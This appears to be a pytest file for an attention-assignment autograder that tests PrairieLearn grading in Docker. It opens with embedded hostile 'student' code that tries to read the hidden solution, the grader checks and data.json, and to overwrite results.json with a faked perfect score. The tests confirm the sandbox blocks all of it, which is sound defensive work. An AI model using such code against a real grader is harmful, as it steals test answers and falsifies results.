for _path in ("/grade/tests/attnkit/solutions/attention/attention.py", "/grade/tests/attnkit/autograder/assignments/attention/checks/part_a.py",
              "/grade/data/data.json"):
    try:
        print("STOLEN", _path, open(_path).read()[:2000])
    except OSError as _error:
        print("DENIED", _path, type(_error).__name__)
try:
    with open("/grade/results/results.json", "w") as _handle:
        _handle.write('{"gradable": true, "score": 1.0, "message": "FAKE-RESULT"}')
    print("FAKED")
except OSError as _error:
    print("DENIED /grade/results", type(_error).__name__)
'''


def _prairielearn_job(root: Path, question: Path, student: str | None, params: dict) -> Path:
    """A job folder as PrairieLearn's grader host lays it out: student/, data/data.json, tests/."""
    grade = root / "grade"
    shutil.copytree(question / "tests", grade / "tests")
    (grade / "data").mkdir()
    (grade / "data" / "data.json").write_text(json.dumps({"params": params, "submitted_answers": {}}))
    (grade / "student").mkdir()
    if student is not None:
        (grade / "student" / "attention.py").write_text(student)
    return grade


def _prairielearn_run(image: str, grade: Path) -> tuple[int, dict, str]:
    done = subprocess.run(
        ["docker", "run", "--rm", *PRAIRIELEARN_LIMITS, "--entrypoint", "/opt/attnkit/bin/entrypoint-prairielearn",
         "--mount", f"type=bind,source={grade},target=/grade", image],
        capture_output=True, text=True, timeout=600)
    results = grade / "results" / "results.json"
    return done.returncode, json.loads(results.read_text()) if results.is_file() else {}, done.stdout + done.stderr


@pytest.fixture(scope="module")
def question(tmp_path_factory) -> Path:
    return export_prairielearn(tmp_path_factory.mktemp("pl") / "question", image="registry.example/attnkit-grader:1")


@pytest.mark.docker
@pytest.mark.slow
def test_prairielearn_grades_the_reference_from_the_questions_tests_folder_in_chinese(image, question, tmp_path):
    grade = _prairielearn_job(tmp_path, question, REFERENCE.read_text(), {"attnkit_seed": 4, "attnkit_lang": "zh"})
    start = time.monotonic()
    code, results, log = _prairielearn_run(image, grade)
    seconds = time.monotonic() - start
    assert code == 0, log
    assert results["gradable"] is True and results["score"] == 1.0, log
    assert results["tests"] and all(t["points"] == t["max_points"] for t in results["tests"])
    assert results["seed"] == 4 and "随机种子：4" in results["message"]
    assert results["images"] and all(i["url"].startswith("data:image/png;base64,") for i in results["images"])
    assert len(json.dumps(results).encode()) < 1_000_000
    print(f"PrairieLearn job (reference, PrairieLearn's limits): {seconds:.1f} s,"
          f" results.json {len(json.dumps(results).encode()) / 1e3:.0f} kB")


@pytest.mark.docker
@pytest.mark.slow
def test_prairielearn_student_code_cannot_read_the_tests_folder_or_fake_results(image, question, tmp_path):
    grade = _prairielearn_job(tmp_path, question, BLANK.read_text() + PL_READER, {"attnkit_seed": 5})
    code, results, log = _prairielearn_run(image, grade)
    assert code == 0, log
    assert results["gradable"] is True and results["score"] == 0, log
    assert "STOLEN" not in results["output"] and "FAKED" not in results["output"], results["output"]
    assert results["output"].count("DENIED") == 4, results["output"]
    assert "FAKE-RESULT" not in json.dumps(results)


@pytest.mark.docker
@pytest.mark.slow
@pytest.mark.parametrize("student, params, says", [
    (REFERENCE.read_text(), {"attnkit_seed": "abc"}, "attnkit_seed='abc' must be a whole number"),
    ("def scaled_dot_product_attention(q, k, v:\n    return q\n", {}, "does not compile"),
    (None, {}, "No files were submitted"),
], ids=["bad-seed-param", "file-level-syntax-error", "no-files"])
def test_prairielearn_ungradable_submissions_cost_no_attempt_and_exit_0(image, question, tmp_path, student, params, says):
    grade = _prairielearn_job(tmp_path, question, student, params)
    code, results, log = _prairielearn_run(image, grade)
    assert code == 0, log
    assert results["gradable"] is False and says in " ".join(results["format_errors"]), results


# --------------------------------------------------------------------------------------------
# every grading path honours the same options (one batch loop, options forwarded to containers)
# --------------------------------------------------------------------------------------------
PATHS = {
    "grade": ["grade", "{inbox}/reference.py"],
    "grade-batch": ["grade-batch", "{inbox}"],
    "grade --docker": ["grade", "{inbox}/reference.py", "--docker", "--image", TEST_IMAGE],
    "grade-batch --docker": ["grade-batch", "{inbox}", "--docker", "--image", TEST_IMAGE],
    "grade-batch --container-per-submission": ["grade-batch", "{inbox}", "--docker", "--container-per-submission", "--image", TEST_IMAGE],
}


def _grade_with_flags(how: str, tmp_path: Path) -> Path:
    from autograder.cli import main

    inbox = tmp_path / "inbox"
    inbox.mkdir()
    shutil.copyfile(REFERENCE, inbox / "reference.py")
    out = tmp_path / "out"
    argv = [arg.format(inbox=inbox) for arg in PATHS[how]]
    assert main([*argv, "--out", str(out), "--prairielearn", "--parts", "A", "--seed", "3", "--lang", "zh"]) == 0
    return out / "reference"


def _assert_flags_honoured(folder: Path) -> None:
    result = SubmissionResult.from_dict(json.loads((folder / "attnkit.json").read_text()))
    assert {c.task.split(".")[0] for c in result.checks} == {"A"}  # --parts A
    assert result.seed == 3 and result.lang == "zh"  # --seed, --lang
    assert result.score == result.max_score > 0
    pl = json.loads((folder / "prairielearn.json").read_text())  # --prairielearn
    assert pl["gradable"] is True and pl["score"] == 1.0


@pytest.mark.parametrize("how", ["grade", "grade-batch"])
def test_every_flag_works_on_the_local_paths(how, tmp_path):
    _assert_flags_honoured(_grade_with_flags(how, tmp_path))


@pytest.mark.docker
@pytest.mark.slow
@pytest.mark.parametrize("how", ["grade --docker", "grade-batch --docker", "grade-batch --container-per-submission"])
def test_every_flag_works_in_grading_containers(how, image, tmp_path):
    """`grade --docker --prairielearn` wrote no prairielearn.json once: a container gets the same options."""
    _assert_flags_honoured(_grade_with_flags(how, tmp_path))
